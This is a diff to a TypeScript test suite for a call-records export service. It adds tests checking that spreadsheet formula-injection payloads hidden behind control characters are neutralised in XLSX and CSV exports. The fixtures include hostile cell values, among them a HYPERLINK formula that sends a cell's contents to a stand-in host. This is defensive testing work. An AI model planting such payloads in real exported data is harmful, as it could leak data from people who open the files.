@@ -2,6 +2,7 @@ import { request as httpRequest } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { Readable } from 'node:stream';
 import { DISPLAY_TIME_ZONE, RECORD_COLUMNS, RECORD_TIME_FORMAT, type CallRecord } from '@callboard/contract';
+import ExcelJS from 'exceljs';
 import JSZip from 'jszip';
 import { DateTime } from 'luxon';
 import Papa from 'papaparse';
@@ -22,6 +23,13 @@ const HOSTILE = [
   '=1+2";=1+2',
 ];
 const FORMULA_START = /^[=+\-@\t\r]/;
+/** Formulas behind characters a sheet cannot carry, and what each cell must hold once they are removed. */
+const HIDDEN_FORMULAS: Array<[string, string]> = [
+  ['\u0001=HYPERLINK("http://x/?"&A1,"x")', '\'=HYPERLINK("http://x/?"&A1,"x")'],
+  ['\u0002\u001F+cmd', "'+cmd"],
+  ['\u000B@SUM(1)', "'@SUM(1)"],
+  ['\uFFFE-1+2', "'-1+2"],
+];
 const HEADERS = RECORD_COLUMNS.map((c) => c.label);
 const DURATION = RECORD_COLUMNS.findIndex((c) => c.key === 'durationSec');
 const TIME = RECORD_COLUMNS.findIndex((c) => c.key === 'callTimestamp');
@@ -31,6 +39,7 @@ const SYSTEM_CALL_ID = RECORD_COLUMNS.findIndex((c) => c.key === 'systemCallId')
 // Each data set lives on its own New York days, so the tests never depend on today's date.
 const HOSTILE_RANGE = 'datePreset=custom&startDate=2025-03-08T00:00&endDate=2025-03-11T00:00'; // across the March DST change
 const MICRO_RANGE = 'datePreset=custom&startDate=2025-04-02T00:00&endDate=2025-04-03T00:00';
+const CONTROL_RANGE = 'datePreset=custom&startDate=2025-05-06T00:00&endDate=2025-05-07T00:00';
 const BULK_RANGE = 'datePreset=custom&startDate=2025-06-10T00:00&endDate=2025-06-11T00:00';
 const BULK_CALLS = 2500;
 
@@ -95,6 +104,15 @@ beforeAll(async () => {
   await signUp(t.app);
 
   await ingest(hostileCalls());
+  await ingest(
+    HIDDEN_FORMULAS.map(([hostile], i) =>
+      call(`control-${i}`, `2025-05-06T1${i}:00:00.000Z`, {
+        callerId: hostile,
+        transcript: hostile,
+        qc: { disposition: 'Sales', reason: hostile, summary: hostile },
+      }),
+    ),
+  );
   await ingest(Array.from({ length: 10 }, (_, i) => call(`micro-${i}`, '2025-04-02T15:00:00.000Z', { callerId: `+1555700${i}` })));
   // Same millisecond, different microseconds: a cursor kept as a JS Date would skip or repeat some of these.
   await t.db.query(
@@ -372,6 +390,34 @@ describe('XLSX', () => {
       message: 'XLSX export is limited to 10 rows and this selection has 2,500. Narrow the date range or export CSV.',
     });
     expect((await get(exportUrl(`fmt=csv&${BULK_RANGE}`, '/api/tight/calls'))).statusCode).toBe(200);
+  });
+});
+
+describe('control characters in front of a formula', () => {
+  const TEXT_COLUMNS = ['callerId', 'transcript', 'reason', 'summary'].map((key) => RECORD_COLUMNS.findIndex((c) => c.key === key));
+  /** The expected cells of the control-character calls, oldest first as ingested; the export lists newest first. */
+  const expectedRows = () => HIDDEN_FORMULAS.map(([, cell]) => TEXT_COLUMNS.map(() => cell)).reverse();
+
+  test('XLSX: they are removed before the formula check, so each formula still gets its leading quote', async () => {
+    const response = await get(exportUrl(`fmt=xlsx&${CONTROL_RANGE}`));
+    expect(response.statusCode).toBe(200);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
+    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
+    expect(sheet.rowCount).toBe(1 + HIDDEN_FORMULAS.length);
+    const rows = Array.from({ length: HIDDEN_FORMULAS.length }, (_, r) => TEXT_COLUMNS.map((c) => sheet.getRow(r + 2).getCell(c + 1)));
+    for (const cell of rows.flat()) {
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula).toBeUndefined();
+    }
+    expect(rows.map((row) => row.map((cell) => cell.value))).toEqual(expectedRows());
+  });
+
+  test('CSV: the same cells', async () => {
+    for (const prefix of ['/api/calls', '/api/tight/calls']) {
+      const rows = parseCsv((await get(exportUrl(`fmt=csv&${CONTROL_RANGE}`, prefix))).body).slice(1);
+      expect(rows.map((row) => TEXT_COLUMNS.map((c) => row[c]))).toEqual(expectedRows());
+    }
   });
 });
 
